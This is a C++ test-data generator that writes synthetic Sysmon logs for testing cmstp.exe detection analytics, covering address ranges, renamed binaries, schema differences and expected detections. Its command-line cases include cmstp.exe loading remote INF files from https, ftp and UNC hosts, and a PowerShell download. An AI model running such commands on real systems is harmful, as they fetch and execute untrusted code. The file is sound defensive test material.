#include "analytics_scenario.hpp"

#include "programs.hpp"

namespace evtxcar::testdata {

namespace {

using namespace evtx_writer;

constexpr const char* system32_cmstp = "C:\\Windows\\System32\\cmstp.exe";
constexpr const char* local_inf_command =
    "C:\\Windows\\System32\\cmstp.exe /s C:\\Users\\tester\\AppData\\Local\\Temp\\corpvpn.inf";
constexpr const char* lab_address = "10.10.5.20";
constexpr const char* lab_ipv6_address = "fd00:10:5::20";  // unique local: never external

const sysmon_host lab01 = {"LAB01.corp.example.com", lab_address, sysmon_schema::v4_50, 2204, 0x5C0F7E11};
const sysmon_host lab02 = {"LAB02.corp.example.com", "10.10.5.21", sysmon_schema::v4_22, 1876, 0x2B9D4A07};
const logon_session tester = {"CORP\\tester", 0x4B1C33, 1, "Medium"};

std::vector<std::string> detections_if(bool condition, std::vector<std::string> detections) {
    return condition ? detections : std::vector<std::string>{};
}

// The records of one analytics file on one host, told in order.
class lab_log {
public:
    lab_log(const sysmon_host& host, filetime start, std::string file_tag)
        : host_(host), time_(start), tag_(std::move(file_tag)) {
        explorer_ =
            program_process(host_, start - 3600 * ticks_per_second, tag_ + " explorer", 4412,
                            "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", tester, "C:\\Users\\tester\\");
    }

    // A process started from explorer; `original_file_name` overrides the
    // version resource (for renamed copies).
    sysmon_process start(const std::string& image, const std::string& command_line, const std::string& case_description,
                         std::vector<std::string> detections, const std::string& original_file_name = "") {
        next_pid_ += 36;
        sysmon_process process = program_process(host_, advance(), tag_ + " " + case_description, next_pid_, image,
                                                 command_line, tester, "C:\\Users\\tester\\");
        if (!original_file_name.empty()) {
            const sysmon_process cmstp = program_process(host_, time_, "version", 0, system32_cmstp, "", tester);
            process.file_version = cmstp.file_version;
            process.description = cmstp.description;
            process.product = cmstp.product;
            process.company = cmstp.company;
            process.original_file_name = original_file_name;
        }
        add(sysmon_process_create(host_, time_, process, explorer_), case_description + ": process create",
            std::move(detections));
        return process;
    }

    // A connection seen from this host: outbound (initiated, this host is
    // the source) or inbound (the remote end is the source).
    void connection(const sysmon_process& process, bool initiated, const std::string& remote,
                    const std::string& case_description, std::vector<std::string> detections,
                    const std::string& local = "") {
        network_connection c;
        c.initiated = initiated;
        const std::string own = !local.empty()                          ? local
                                : remote.find(':') != std::string::npos ? lab_ipv6_address
                                                                        : lab_address;
        const std::string& source = initiated ? own : remote;
        const std::string& destination = initiated ? remote : own;
        c.source_ip = source;
        c.source_hostname = initiated ? host_.computer : "-";
        c.source_port = initiated ? 50112 : 443;
        c.source_port_name = initiated ? "" : "https";
        c.destination_ip = destination;
        c.destination_hostname = initiated ? "-" : host_.computer;
        c.destination_port = initiated ? 443 : 50112;
        c.destination_port_name = initiated ? "https" : "";
        add(sysmon_network_connection(host_, advance(), process, c),
            case_description + (initiated ? ": outbound connection" : ": inbound connection"), std::move(detections));
    }

    const std::string& tag() const { return tag_; }
    std::vector<scenario_record> records() const { return records_; }

private:
    filetime advance() { return time_ += 7 * ticks_per_second + 1234567; }
    void add(windows_event event, std::string case_description, std::vector<std::string> detections) {
        records_.push_back({std::move(event), std::move(case_description), std::move(detections)});
    }

    sysmon_host host_;
    filetime time_;
    std::string tag_;
    sysmon_process explorer_;
    std::uint32_t next_pid_ = 6100;
    std::vector<scenario_record> records_;
};

struct address_case {
    const char* address;
    bool external;  // the scenario's intent: outside HOMENET and not a never-external address
    const char* description;
};

// For each address: System32 cmstp.exe (local INF), an inbound connection
// from the address (car and remote judge it) and an outbound one to it
// (remote judges it).
std::vector<scenario_record> address_cases(filetime start, const std::string& tag,
                                           const std::vector<address_case>& cases) {
    lab_log log(lab01, start, tag);
    for (const address_case& c : cases) {
        const std::string name = std::string(c.description) + " [" + c.address + "]";
        const sysmon_process cmstp = log.start(system32_cmstp, local_inf_command, name, {});
        log.connection(cmstp, false, c.address, name, detections_if(c.external, {detection_car, detection_remote}));
        log.connection(cmstp, true, c.address, name, detections_if(c.external, {detection_remote}));
    }
    return log.records();
}

filetime at(unsigned day, unsigned hour, unsigned minute) { return to_filetime({2026, 4, day, hour, minute, 0, 0}); }

std::vector<scenario_record> private_ranges() {
    return address_cases(at(2, 9, 0), "private_ranges",
                         {{"10.0.0.1", false, "first host of 10.0.0.0/8"},
                          {"10.255.255.255", false, "last address of 10.0.0.0/8"},
                          {"9.255.255.255", true, "just below 10.0.0.0/8"},
                          {"11.0.0.0", true, "just above 10.0.0.0/8"},
                          {"172.15.255.255", true, "just below 172.16.0.0/12"},
                          {"172.16.0.0", false, "first address of 172.16.0.0/12"},
                          {"172.31.255.255", false, "last address of 172.16.0.0/12"},
                          {"172.32.0.0", true, "just above 172.16.0.0/12"},
                          {"192.167.255.255", true, "just below 192.168.0.0/16"},
                          {"192.168.0.1", false, "inside 192.168.0.0/16"},
                          {"192.168.255.254", false, "end of 192.168.0.0/16"},
                          {"192.169.0.1", true, "just above 192.168.0.0/16"},
                          {"203.0.113.5", true, "public address"},
                          {"198.51.100.77", true, "public address"}});
}

std::vector<scenario_record> special_ipv4() {
    return address_cases(at(2, 10, 0), "special_ipv4",
                         {{"127.0.0.1", false, "loopback"},
                          {"127.255.255.254", false, "end of loopback 127.0.0.0/8"},
                          {"126.255.255.255", true, "just below 127.0.0.0/8"},
                          {"128.0.0.0", true, "just above 127.0.0.0/8"},
                          {"0.0.0.0", false, "unspecified address"},
                          {"169.254.0.1", false, "link-local"},
                          {"169.254.255.254", false, "end of link-local 169.254.0.0/16"},
                          {"169.253.255.255", true, "just below 169.254.0.0/16"},
                          {"169.255.0.1", true, "just above 169.254.0.0/16"},
                          {"224.0.0.251", false, "multicast (mDNS)"},
                          {"239.255.255.250", false, "multicast (SSDP), end of 224.0.0.0/4"},
                          {"223.255.255.255", true, "just below 224.0.0.0/4"},
                          {"240.0.0.1", true, "just above 224.0.0.0/4 (reserved, not in the never-external list)"},
                          {"255.255.255.255", false, "limited broadcast"}});
}

std::vector<scenario_record> ipv6_addresses() {
    return address_cases(at(2, 11, 0), "ipv6",
                         {{"::1", false, "IPv6 loopback"},
                          {"0:0:0:0:0:0:0:1", false, "IPv6 loopback, uncompressed as Sysmon writes it"},
                          {"::", false, "IPv6 unspecified"},
                          {"0:0:0:0:0:0:0:0", false, "IPv6 unspecified, uncompressed"},
                          {"fe80::1c2d:3e4f:5a6b:7c8d", false, "IPv6 link-local"},
                          {"fe80:0:0:0:a1b2:c3d4:e5f6:1", false, "IPv6 link-local, uncompressed"},
                          {"febf:ffff::1", false, "end of link-local fe80::/10"},
                          {"fec0::1", true, "just above fe80::/10 (old site-local, not in the never-external list)"},
                          {"ff02::fb", false, "IPv6 multicast"},
                          {"ff00::1", false, "start of multicast ff00::/8"},
                          {"fc00::1", false, "unique local fc00::/7"},
                          {"fd12:3456:789a:1::20", false, "unique local, fd00::/8 half"},
                          {"fbff:ffff:ffff:ffff:ffff:ffff:ffff:ffff", true, "just below fc00::/7"},
                          {"fe00::1", true, "between fc00::/7 and fe80::/10"},
                          {"2001:db8::5", true, "IPv6 public address"},
                          {"2001:db8:0:0:0:0:0:7", true, "IPv6 public address, uncompressed"},
                          {"2001:DB8:1::AB", true, "IPv6 public address, uppercase hex"},
                          {"::ffff:203.0.113.5", true, "IPv4-mapped public address"},
                          {"::ffff:10.1.2.3", false, "IPv4-mapped private address"},
                          {"::ffff:127.0.0.1", false, "IPv4-mapped loopback"},
                          {"0:0:0:0:0:ffff:cb00:7105", true, "IPv4-mapped 203.0.113.5 written in hex, uncompressed"}});
}

std::vector<scenario_record> unparseable_addresses() {
    return address_cases(at(2, 12, 0), "unparseable",
                         {{"not-an-address", false, "text that is no address"},
                          {"", false, "empty address"},
                          {"-", false, "a dash for an unknown address"},
                          {"999.1.1.1", false, "octet out of range"},
                          {"203.0.113", false, "three octets"},
                          {"203.0.113.5.6", false, "five octets"},
                          {"203.0.113.5:443", false, "address with a port"},
                          {"2001:db8::5::6", false, "two double colons"},
                          {"gggg::1", false, "IPv6 groups that are not hex"},
                          {"2001:db8:1:2:3:4:5:6:7", false, "nine IPv6 groups"}});
}

std::vector<scenario_record> variant_differences() {
    lab_log log(lab01, at(3, 9, 0), "variants");
    const sysmon_process a = log.start(system32_cmstp, local_inf_command, "public source, private destination", {});
    log.connection(a, true, "192.168.40.1", "public source, private destination (car only)", {detection_car},
                   "198.51.100.200");
    const sysmon_process b = log.start(system32_cmstp, local_inf_command, "private source, public destination", {});
    log.connection(b, true, "203.0.113.15", "private source, public destination (remote only)", {detection_remote});
    const sysmon_process c = log.start(system32_cmstp, local_inf_command, "public source, inbound", {});
    log.connection(c, false, "203.0.113.16", "public source of an inbound connection (car and remote)",
                   {detection_car, detection_remote});
    const sysmon_process d = log.start(system32_cmstp, local_inf_command, "private to private", {});
    log.connection(d, true, "10.10.9.9", "private to private (none)", {});
    const sysmon_process e = log.start("C:\\Windows\\SysWOW64\\cmstp.exe",
                                       "C:\\Windows\\SysWOW64\\cmstp.exe /s C:\\Users\\tester\\corpvpn.inf",
                                       "SysWOW64 cmstp.exe, public source", {});
    log.connection(e, false, "203.0.113.17", "SysWOW64 cmstp.exe, public source (remote only: car wants System32)",
                   {detection_remote});
    return log.records();
}

std::vector<scenario_record> image_paths() {
    lab_log log(lab01, at(3, 10, 0), "images");
    const auto both_directions = [&](const sysmon_process& process, const std::string& name, const char* inbound_from,
                                     std::vector<std::string> inbound, const char* outbound_to,
                                     std::vector<std::string> outbound) {
        log.connection(process, false, inbound_from, name, std::move(inbound));
        log.connection(process, true, outbound_to, name, std::move(outbound));
    };
    const sysmon_process wow64 =
        log.start("C:\\Windows\\SysWOW64\\cmstp.exe",
                  "C:\\Windows\\SysWOW64\\cmstp.exe /s C:\\Users\\tester\\corpvpn.inf", "SysWOW64 cmstp.exe", {});
    both_directions(wow64, "SysWOW64 cmstp.exe", "203.0.113.21", {detection_remote}, "203.0.113.22",
                    {detection_remote});

    const sysmon_process odd_case = log.start("c:\\WINDOWS\\system32\\CmStP.ExE",
                                              "c:\\WINDOWS\\system32\\CmStP.ExE /s C:\\Users\\tester\\corpvpn.inf",
                                              "System32 cmstp.exe in odd letter case", {});
    both_directions(odd_case, "System32 cmstp.exe in odd letter case", "198.51.100.40",
                    {detection_car, detection_remote}, "198.51.100.41", {detection_remote});

    const sysmon_process upper =
        log.start("C:\\Windows\\System32\\CMSTP.EXE", "CMSTP.EXE /s C:\\Users\\tester\\corpvpn.inf",
                  "System32 CMSTP.EXE in capitals", {});
    both_directions(upper, "System32 CMSTP.EXE in capitals", "192.0.2.11", {detection_car, detection_remote},
                    "192.0.2.10", {detection_remote});

    const sysmon_process copy =
        log.start("C:\\Users\\Public\\cmstp.exe", "C:\\Users\\Public\\cmstp.exe /s C:\\Users\\Public\\p.inf",
                  "a copy of cmstp.exe in C:\\Users\\Public", {});
    both_directions(copy, "a copy of cmstp.exe in C:\\Users\\Public", "203.0.113.31", {detection_remote},
                    "203.0.113.32", {detection_remote});

    const sysmon_process renamed = log.start(
        "C:\\Users\\Public\\update.exe", "\"C:\\Users\\Public\\update.exe\" /ni /s https://cdn.example.com/a.inf",
        "renamed cmstp.exe (update.exe, OriginalFileName CMSTP.EXE) with a remote INF", {detection_cmdline_url},
        "CMSTP.EXE");
    both_directions(renamed, "renamed cmstp.exe update.exe", "203.0.113.42", {detection_remote}, "203.0.113.41",
                    {detection_remote});

    const sysmon_process lookalike =
        log.start("C:\\Tools\\mycmstp.exe", "C:\\Tools\\mycmstp.exe /ni /s https://cdn.example.com/a.inf",
                  "look-alike name mycmstp.exe (not cmstp.exe)", {});
    both_directions(lookalike, "look-alike mycmstp.exe", "203.0.113.45", {}, "203.0.113.46", {});

    const sysmon_process folder =
        log.start("C:\\Temp\\cmstp.exe\\evil.exe", "C:\\Temp\\cmstp.exe\\evil.exe /s https://cdn.example.com/a.inf",
                  "a folder named cmstp.exe (the program is evil.exe)", {});
    both_directions(folder, "a folder named cmstp.exe", "203.0.113.47", {}, "203.0.113.48", {});

    const sysmon_process powershell =
        log.start("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                  "powershell.exe -nop -c \"iwr https://www.example.com/tool.zip -OutFile tool.zip\"",
                  "PowerShell (not cmstp.exe) with external connections", {});
    both_directions(powershell, "PowerShell (not cmstp.exe)", "203.0.113.52", {}, "203.0.113.51", {});

    const sysmon_process rundll32 =
        log.start("C:\\Windows\\System32\\rundll32.exe", "rundll32.exe C:\\Users\\Public\\helper.dll,Start",
                  "rundll32.exe (not cmstp.exe) with an external connection (the catalogue's CAR-2014-03-006)",
                  {"CAR-2014-03-006:pseudocode"});
    log.connection(rundll32, true, "198.51.100.60", "rundll32.exe (not cmstp.exe)", {});
    return log.records();
}

std::vector<scenario_record> command_lines() {
    lab_log log(lab01, at(3, 11, 0), "command lines");
    const auto cmstp = [&](const std::string& image, const std::string& command_line, const std::string& name,
                           bool remote, std::vector<std::string> also = {}) {
        std::vector<std::string> expected = detections_if(remote, {detection_cmdline_url});
        expected.insert(expected.end(), also.begin(), also.end());
        log.start(image, command_line, name, expected);
    };
    // The catalogue's CAR-2013-07-001 finds an IPv4 address on a command line.
    const std::string address_on_command_line = "CAR-2013-07-001:ip-address";
    const std::string exe = system32_cmstp;
    cmstp(exe, exe + " /ni /s https://www.example.com/profiles/x.inf", "https URL", true);
    cmstp(exe, "\"" + exe + "\" /ni /s HTTPS://WWW.EXAMPLE.COM/PROFILES/X.INF", "uppercase HTTPS URL", true);
    cmstp(exe, "cmstp.exe /s http://198.51.100.20/p.inf", "http URL with an address", true, {address_on_command_line});
    cmstp(exe, "cmstp.exe /ni /s ftp://files.example.com/pub/p.inf", "ftp URL", true);
    cmstp(exe, "cmstp.exe /ni /s \\\\203.0.113.7\\share\\x.inf", "UNC path to an address", true, {address_on_command_line});
    cmstp(exe, "cmstp.exe /s \\\\fileserver.example.com\\profiles$\\vpn.inf", "UNC path to a host name", true);
    cmstp("C:\\Windows\\SysWOW64\\cmstp.exe", "C:\\Windows\\SysWOW64\\cmstp.exe /ni /s https://cdn.example.com/b.inf",
          "SysWOW64 cmstp.exe with an https URL", true);
    cmstp(exe, "cmstp.exe /s \"C:\\Users\\bob\\Downloads\\vpn.inf\"", "local INF path (no detection)", false);
    cmstp(exe, "cmstp.exe /s corpvpn.inf", "relative INF name (no detection)", false);
    cmstp(exe, exe + " /u /s C:\\ProgramData\\Microsoft\\Network\\Connections\\Cm\\corpvpn.inf",
          "uninstall of a local profile (no detection)", false);
    cmstp(exe, exe + " /s C:\\Users\\bob\\Documents\\notes-about-http.inf", "\"http\" without a URL (no detection)",
          false);
    cmstp(exe, exe + " /ni /s hxxps://www.example.com/x.inf", "defanged hxxps URL (no detection)", false);
    log.start("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
              "powershell.exe -c \"iwr https://www.example.com/x.inf -OutFile x.inf\"",
              "PowerShell with a URL (not cmstp.exe: no detection)", {});
    log.start("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c start \\\\203.0.113.7\\share\\x.inf",
              "cmd.exe with a UNC path (not cmstp.exe: no CMSTP detection; the catalogue's cmd.exe and address analytics)",
              {"CAR-2013-02-003:pseudocode", address_on_command_line});
    return log.records();
}

std::vector<scenario_record> old_schema() {
    lab_log log(lab02, at(3, 12, 0), "old schema");
    const sysmon_process cmstp = log.start(system32_cmstp, "cmstp.exe /ni /s https://www.example.com/old.inf",
                                           "Sysmon schema 4.22 cmstp.exe with an https URL", {detection_cmdline_url});
    log.connection(cmstp, true, "203.0.113.70", "Sysmon schema 4.22 cmstp.exe", {detection_remote}, "10.10.5.21");
    const sysmon_process renamed = log.start(
        "C:\\Users\\Public\\helper.exe", "C:\\Users\\Public\\helper.exe /ni /s https://www.example.com/old.inf",
        "renamed cmstp.exe where Sysmon 4.22 logs no OriginalFileName (cannot be known: no detection)", {});
    log.connection(renamed, true, "203.0.113.71", "renamed cmstp.exe without OriginalFileName (no detection)", {},
                   "10.10.5.21");
    return log.records();
}

// The process creates here; their connections in cross_file_network.evtx.
struct cross_file_processes {
    sysmon_process renamed;
    sysmon_process cmstp;
};

cross_file_processes cross_file_starts(std::vector<scenario_record>& records) {
    lab_log log(lab01, at(4, 9, 0), "cross file");
    cross_file_processes processes{
        log.start("C:\\Users\\Public\\svcupdate.exe",
                  "\"C:\\Users\\Public\\svcupdate.exe\" /s C:\\Users\\Public\\p.inf",
                  "renamed cmstp.exe (svcupdate.exe) whose connection is in cross_file_network.evtx", {}, "CMSTP.EXE"),
        log.start(system32_cmstp, local_inf_command, "cmstp.exe whose connection is in cross_file_network.evtx", {})};
    records = log.records();
    return processes;
}

std::vector<scenario_record> cross_file_connections(const cross_file_processes& processes) {
    lab_log log(lab01, at(4, 9, 30), "cross file network");
    log.connection(processes.renamed, true, "203.0.113.61",
                   "renamed svcupdate.exe, process create in cross_file_process_create.evtx", {detection_remote});
    log.connection(processes.cmstp, false, "203.0.113.62",
                   "cmstp.exe, process create in cross_file_process_create.evtx", {detection_car, detection_remote});
    return log.records();
}

std::vector<scenario_record> network_first() {
    // Sysmon can log a process's first connection before its creation: the
    // connection is written first, with the later TimeCreated.
    std::vector<scenario_record> records;
    for (const bool renamed : {true, false}) {
        lab_log creates(lab01, at(4, 10, renamed ? 0 : 5), renamed ? "network first renamed" : "network first cmstp");
        const std::string name = renamed ? "renamed cmstp.exe (sync.exe) logged after its connection"
                                         : "cmstp.exe logged after its connection";
        const sysmon_process process =
            renamed ? creates.start("C:\\Users\\Public\\sync.exe",
                                    "\"C:\\Users\\Public\\sync.exe\" /ni /s https://cdn.example.com/sync.inf", name,
                                    {detection_cmdline_url}, "CMSTP.EXE")
                    : creates.start(system32_cmstp, local_inf_command, name, {});
        lab_log connections(lab01, at(4, 10, renamed ? 0 : 5) + 3 * ticks_per_second, creates.tag());
        connections.connection(process, true, renamed ? "198.51.100.61" : "198.51.100.62", name, {detection_remote});
        for (scenario_record& r : connections.records()) records.push_back(std::move(r));
        for (scenario_record& r : creates.records()) records.push_back(std::move(r));
    }
    return records;
}

}  // namespace

std::vector<scenario_file> analytics_files() {
    std::vector<scenario_record> cross_creates;
    const cross_file_processes cross = cross_file_starts(cross_creates);
    return {
        log_file("analytics/CAR-2020-11-010/private_ranges.evtx", "HOMENET ranges: each boundary inside and just outside",
                 private_ranges()),
        log_file("analytics/CAR-2020-11-010/special_ipv4.evtx",
                 "loopback, unspecified, link-local, multicast, broadcast and their boundaries", special_ipv4()),
        log_file("analytics/CAR-2020-11-010/ipv6.evtx", "IPv6: public, ULA, link-local, loopback, multicast, IPv4-mapped, uncompressed",
                 ipv6_addresses()),
        log_file("analytics/CAR-2020-11-010/unparseable_addresses.evtx", "address text that does not parse: never external",
                 unparseable_addresses()),
        log_file("analytics/CAR-2020-11-010/variant_differences.evtx", "connections where car and remote disagree",
                 variant_differences()),
        log_file("analytics/CAR-2020-11-010/image_paths.evtx",
                 "SysWOW64, letter case, copies, a renamed copy, look-alikes and other programs", image_paths()),
        log_file("analytics/CAR-2020-11-010/command_lines.evtx", "cmdline-url: http, https, ftp, UNC, letter case; local INF negatives",
                 command_lines()),
        log_file("analytics/CAR-2020-11-010/old_schema.evtx", "Sysmon schema 4.22 (no OriginalFileName) on LAB02", old_schema()),
        log_file("analytics/CAR-2020-11-010/cross_file_process_create.evtx", "process creates whose connections are in another file",
                 cross_creates),
        log_file("analytics/CAR-2020-11-010/cross_file_network.evtx", "connections whose process creates are in another file",
                 cross_file_connections(cross)),
        log_file("analytics/CAR-2020-11-010/network_before_process_create.evtx", "connections written before their process creates",
                 network_first()),
    };
}

}  // namespace evtxcar::testdata
